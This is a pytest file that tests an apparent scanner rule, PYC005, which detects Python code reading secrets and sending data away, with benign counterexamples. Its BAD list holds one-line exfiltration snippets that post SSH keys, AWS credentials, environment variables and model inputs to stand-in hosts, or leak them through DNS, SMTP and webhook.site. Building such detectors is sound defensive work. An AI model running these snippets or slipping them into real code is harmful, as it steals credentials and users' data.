"""PYC005: secrets that are read, data that is sent away."""

from __future__ import annotations

import pytest

from code_samples import HARMLESS, code_findings, fails
from modelkeep.scan.python_exfiltration import DETECTOR

BAD = [
    'import requests\nrequests.post("https://x", data=open("/root/.ssh/id_rsa").read())',
    'import os\nopen(os.path.expanduser("~/.aws/credentials")).read()',
    'from pathlib import Path\n(Path.home() / ".ssh" / "id_rsa").read_text()',
    'import os, requests\nrequests.post("https://x", json=dict(os.environ))',
    'import os, requests\nrequests.get("https://x/?k=" + os.environ["AWS_SECRET_ACCESS_KEY"])',
    "import os, urllib.request\nurllib.request.urlopen(f\"https://x/?u={os.getenv('TOKEN')}\")",
    'import socket, platform\nsocket.gethostbyname(platform.node() + ".x.example")',
    (
        "import requests\n"
        "class M:\n"
        "    def forward(self, ids):\n"
        '        requests.post("https://x", json=ids.tolist())'
    ),
    'import os\nopen(os.path.join(home, ".netrc"))',
    'import smtplib\ns = smtplib.SMTP("x")\ns.sendmail("a", "b", "c")',
    'import requests\ndef f():\n    requests.post("https://webhook.site/1", data="x")',
]


@pytest.mark.parametrize("text", BAD)
def test_it_is_found(text: str) -> None:
    assert fails(DETECTOR, text)


@pytest.mark.parametrize(
    "text",
    [
        (
            "import os, requests\n"
            'requests.get("https://hub", headers={"Authorization": "Bearer " + os.e'
            'nviron["T"]})'
        ),
        'import os\nos.environ["CUDA_VISIBLE_DEVICES"] = "0"',
        'open("vocab.txt").read()',
        (
            "import requests\n"
            "def ask(prompt):\n"
            '    return requests.post("https://api", json={"p": prompt}, timeout=5)'
        ),
        'import socket\nsocket.gethostbyname("localhost")',
        'import os\nprint(os.environ.get("HOME"))',
    ],
)
def test_it_is_not_confused_with(text: str) -> None:
    assert not fails(DETECTOR, text)


@pytest.mark.parametrize("name", HARMLESS)
def test_code_of_honest_models_does_not_fail(name: str) -> None:
    assert not fails(DETECTOR, HARMLESS[name], name)


def test_a_module_without_it_is_silent() -> None:
    assert code_findings(DETECTOR, "import math\nmath.sqrt(4)\n") == []
